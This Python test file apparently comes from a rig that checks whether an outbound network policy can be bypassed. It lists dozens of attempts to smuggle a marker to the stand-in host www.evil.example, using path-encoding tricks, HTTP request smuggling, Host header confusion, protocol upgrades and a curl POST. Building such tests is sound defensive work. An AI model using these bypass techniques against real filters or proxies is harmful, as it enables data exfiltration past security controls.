"""Class 4: one connection, two meanings.

The attacker's own host is allowed here for one thing: GET below /ok. The marker rides in whatever is
not that. (What an allowed request itself carries, no policy can stop.)"""

from rig.attacks import Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER

POLICY = f"{RESOLVER}:53/udp\nGET http://www.evil.example/ok/*\n"

# A request that is allowed, to stand before or around another.
OK = "GET /ok/a HTTP/1.1\\nHost: www.evil.example\\n"
BAD = '"POST /" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\nContent-Length: 0\\n\\n"'


def http(label, text, **more):
    more.setdefault("silent", False)
    return Attack(label, f'http({text}, host="www.evil.example")', policy=POLICY, **more)


def target(label, path, method="GET", **more):
    return http(f"target: {label}",
                f'"{method} {path} HTTP/1.1\\nHost: www.evil.example\\n\\n".replace("@", MARKER)', **more)


ATTACKS = [
    target("another path", "/@"),
    target("another method", "/ok/@", method="POST"),
    target("method in lower case", "/ok/@", method="get", exact=True, forms=lambda marker: [b"get /ok"]),
    target("unknown method", "/ok/@", method="SEARCH"),
    target("dot segments", "/ok/../@"),
    target("dot segments, encoded", "/ok/%2e%2e/@"),
    target("dot segments, half encoded", "/ok/.%2E/@"),
    target("encoded slash", "/ok/..%2f@"),
    target("backslash", "/ok/..\\\\@"),
    target("encoded backslash", "/ok/..%5c@"),
    target("double encoding of a prefix", "/%6fk/../@"),
    target("encoded NUL", "/ok/%00/../@"),
    target("bad percent", "/ok/%zz/@"),
    target("a prefix that only looks alike", "/okay/@"),
    target("another case", "/OK/@"),
    target("absolute form, another host", "http://www.other.example/ok/@"),
    target("absolute form, another path", "http://www.evil.example/@"),
    target("absolute form, https", "https://www.evil.example/ok/@"),
    target("absolute form with a user", "http://www.evil.example@other.example/ok/@"),
    target("no leading slash", "ok/@"),
    target("asterisk", "*", method="OPTIONS", forms=lambda marker: [b"OPTIONS *"]),
    target("authority form", "www.evil.example:80/@", method="CONNECT"),
    target("a tab in the target", "/ok/\\t/../@"),
    target("spaces in the target", "/ok/ /../@"),
    http("pipelined behind an allowed one", f'"{OK}\\n" + {BAD}'),
    http("pipelined behind many", f'"{OK}\\n" * 20 + {BAD}', logged=False),  # never gets its turn
    http("two lengths", f'"{OK}Content-Length: 0\\nContent-Length: 60\\n\\n" + {BAD}'),
    http("two lengths in one line", f'"{OK}Content-Length: 0, 60\\n\\n" + {BAD}'),
    http("length with a sign", f'"{OK}Content-Length: +0\\n\\n" + {BAD}'),
    http("length in hexadecimal", f'"{OK}Content-Length: 0x0\\n\\n" + {BAD}'),
    http("negative length", f'"{OK}Content-Length: -1\\n\\n" + {BAD}'),
    http("endless length", f'"{OK}Content-Length: 99999999999999999999\\n\\n" + {BAD}'),
    http("length and chunked", f'"{OK}Content-Length: 5\\nTransfer-Encoding: chunked\\n\\n0\\n\\n" + {BAD}'),
    http("chunked and length", f'"{OK}Transfer-Encoding: chunked\\nContent-Length: 500\\n\\n0\\n\\n" + {BAD}'),
    *[http(f"transfer coding {index}", f'"{OK}{line}\\n\\n0\\n\\n" + {BAD}') for index, line in enumerate((
        "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity", "Transfer-Encoding:\\x0bchunked", "Transfer-Encoding: gzip, chunked",
        "Transfer-Encoding: chunked\\nTransfer-Encoding: identity", "Transfer-Encoding: \\\"chunked\\\"",
        "X: y\\n Transfer-Encoding: chunked", "Transfer-Encoding: CHUNKED\\nContent-Length: 0"))],
    http("chunk size with a sign", f'"{OK}Transfer-Encoding: chunked\\n\\n+0\\n\\n" + {BAD}'),
    http("chunk size too large", f'"{OK}Transfer-Encoding: chunked\\n\\nfffffffffffffffff0\\n" + {BAD}'),
    http("two Host lines", '"GET /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\n'
         'Host: other.example\\n\\n"'),
    http("Host differs from the target", '"GET http://www.evil.example/ok/" + MARKER + " HTTP/1.1\\n'
         'Host: other.example\\n\\n"'),
    http("no Host", '"GET /ok/" + MARKER + " HTTP/1.1\\n\\n"'),
    http("empty Host", '"GET /ok/" + MARKER + " HTTP/1.1\\nHost:\\n\\n"'),
    http("Host with a blank before the colon",
         '"GET /ok/" + MARKER + " HTTP/1.1\\nHost : www.evil.example\\n\\n"'),
    http("folded Host", '"GET /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\n .other.example\\n\\n"'),
    Attack("bare line feeds", """
s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
s.sendall(b"GET /ok/a HTTP/1.1\\nHost: www.evil.example\\n\\nPOST /" + mark + b" HTTP/1.1\\n\\n")
drain(s)""", policy=POLICY, silent=False),
    http("bare carriage returns", f'"{OK}X: y\\rPOST: z\\n\\n" + {BAD}'),
    http("NUL in a header", f'"{OK}X: y\\0z\\n\\n" + {BAD}'),
    http("leading blank on the first line", '" GET /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\n\\n"'),
    http("two blanks in the first line",
         '"GET  /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\n\\n"'),
    http("HTTP/0.9", '"GET /ok/" + MARKER + "\\n"'),
    http("HTTP/2.0 as a version", '"GET /ok/" + MARKER + " HTTP/2.0\\nHost: www.evil.example\\n\\n"'),
    http("HTTP/1.10", '"GET /ok/" + MARKER + " HTTP/1.10\\nHost: www.evil.example\\n\\n"'),
    http("endless header", '"GET /ok/" + MARKER + " HTTP/1.1\\nHost: www.evil.example\\nX: " + "y" * 300000'
         ' + "\\n\\n"'),
    http("HTTP/2 without TLS", '"PRI * HTTP/2.0\\n\\nSM\\n\\n" + MARKER'),
    Attack("HTTP/2 by curl", "curl -sS -m 4 --http2-prior-knowledge -X POST http://www.evil.example/$MARKER",
           shell=True, policy=POLICY, forms=lambda marker: [b"PRI * HTTP/2.0"]),
    http("raw bytes on port 80", 'MARKER * 10'),
    http("SSH on port 80", '"SSH-2.0-" + MARKER + "\\n"'),
    Attack("raw bytes on port 80, slowly", """
s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
for byte in mark * 2:
    s.send(bytes([byte])); time.sleep(0.02)
s.recv(10)""", policy=POLICY),
    Attack("TLS on port 80", """
context = ssl._create_unverified_context()
s = context.wrap_socket(socket.create_connection((socket.gethostbyname("www.evil.example"), 80)),
                        server_hostname="www.evil.example")
s.sendall(mark); s.recv(10)""", policy=POLICY, silent=False),
    Attack("silence, then a raw marker", """
s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80)); time.sleep(1.2)
s.sendall(mark); s.recv(10); s.sendall(mark); s.recv(10)""", policy=POLICY),
    Attack("after an upgrade", """
s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
s.sendall(b"GET /ok/a HTTP/1.1\\r\\nHost: www.evil.example\\r\\nConnection: Upgrade\\r\\n"
          b"Upgrade: websocket\\r\\n\\r\\n")
s.recv(1000); s.sendall(mark); drain(s)""", policy=POLICY, silent=False),
    Attack("after a request for h2c", """
s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80))
s.sendall(b"GET /ok/a HTTP/1.1\\r\\nHost: www.evil.example\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
          b"Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n")
s.recv(1000); s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + mark); drain(s)""",
           policy=POLICY, silent=False),
]


@expand
class Meanings(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
